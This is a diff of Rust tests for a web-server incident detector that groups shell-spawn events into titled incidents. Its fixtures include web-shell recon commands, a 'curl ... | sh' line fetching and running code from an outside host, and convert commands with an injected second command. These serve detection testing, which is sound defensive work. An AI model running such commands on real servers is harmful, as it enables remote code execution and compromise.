@@ -62,7 +62,7 @@ fn day(more: &[(&str, &str)], client: &str, script: &str) -> Vec<Value> {
 fn found(values: &[Value], max: usize) -> Vec<Incident> {
     let mut story = Story::bounded(max);
     for value in values {
-        story.take(&Event::of(value));
+        story.take(&Event::of(value), true);
     }
     find(&story.told())
 }
@@ -173,6 +173,72 @@ fn a_tree_of_programs_is_one() {
 fn later(event: &Value, seconds: i64) -> Value {
     let time: jiff::Timestamp = event["@timestamp"].as_str().expect("a time").parse().expect("a time");
     jiff::Timestamp::from_second(time.as_second() + seconds).expect("a time").to_string().into()
+}
+
+/// A script of a few clients is not ordinary because they do the same by it; nor is one client's, who does the same on several sites.
+#[test]
+fn what_few_clients_do_is_not_ordinary() {
+    let at = |number: usize, site: &str, client: &str, command: &str| {
+        let script = format!("/srv/{site}/.cache.php");
+        Made { number: 3000 + number as u64, rule: "shell-spawn", site, script: &script, client, command }.value()
+    };
+    let mut events = day(&[], "", "");
+    for (number, client) in ["192.88.1.1", "192.88.1.2", "192.88.1.3"].into_iter().enumerate() {
+        events.push(at(2 * number, "site3.example", client, "sh -c id"));
+        events.push(at(2 * number + 1, "site3.example", client, "sh -c 'uname -a'"));
+    }
+    let first = &found(&events, usize::MAX)[0];
+    assert_eq!(first.title(), "Shell command from site3.example: .cache.php, by 3 clients, 6 requests, not blocked");
+
+    let mut events = day(&[], "", "");
+    for (number, site) in ["site1.example", "site2.example", "site3.example"].into_iter().enumerate() {
+        events.push(at(number, site, "192.88.1.1", "sh -c 'curl http://192.88.1.9/x | sh'"));
+    }
+    let first = &found(&events, usize::MAX)[0];
+    assert_eq!(first.title(), "Shell command from 3 sites: 3 scripts, by 192.88.1.1, 3 requests, not blocked");
+}
+
+/// A command that a shell takes apart is not like the ordinary one.
+#[test]
+fn a_command_with_more_in_it_is_told_apart() {
+    for command in [
+        "sh -c 'convert /tmp/php7 -resize 200x200 out/7.jpg;/srv/site4.example/out/x'",
+        "sh -c 'convert /tmp/php7 -resize 200x200 out/7.php'",
+    ] {
+        let more = [("shell-spawn", command)];
+        let incidents = found(&day(&more, "198.51.100.3", "/srv/site4.example/image.php"), usize::MAX);
+        assert!(incidents[0].steps.iter().any(|step| &*step.what == command), "{:#?}", incidents[0]);
+        assert!(!incidents[0].is_ordinary && incidents[1].is_ordinary, "{command}");
+    }
+}
+
+/// What is ordinary all of the log says, also where a part is asked for.
+#[test]
+fn what_is_not_chosen_shows_what_is_ordinary() {
+    let events = day(&SHELL, "192.88.1.66", "/srv/site4.example/up.php");
+    let mut story = Story::default();
+    for (at, value) in events.iter().enumerate() {
+        story.take(&Event::of(value), (240..=270).contains(&at));
+    }
+    let incidents = find(&story.told());
+    assert!(incidents[0].title().contains("up.php") && incidents[1..].iter().all(|one| one.is_ordinary));
+    assert!((10..=28).contains(&incidents.len()), "{}: those without a chosen event are left out", incidents.len());
+}
+
+#[test]
+fn without_a_request_the_program_is_named() {
+    let mut events = day(&[], "", "");
+    let mut event = events[0].clone();
+    for key in ["client", "http", "url"] {
+        event[key] = json!({});
+    }
+    event["event"]["id"] = "ab-9000".into();
+    event["portcullis"] = json!({ "chain": "php-fpm: pool www > sh", "stream": "ab" });
+    event["process"]["command_line"] = "sh -c w".into();
+    events.push(event);
+    let first = &found(&events, usize::MAX)[0];
+    assert_eq!(first.title(), "Shell command, no known request of php-fpm: pool www, not blocked");
+    assert!(first.scripts.is_empty());
 }
 
 /// Nobody's values break anything, and what is no event of this version counts all the same.
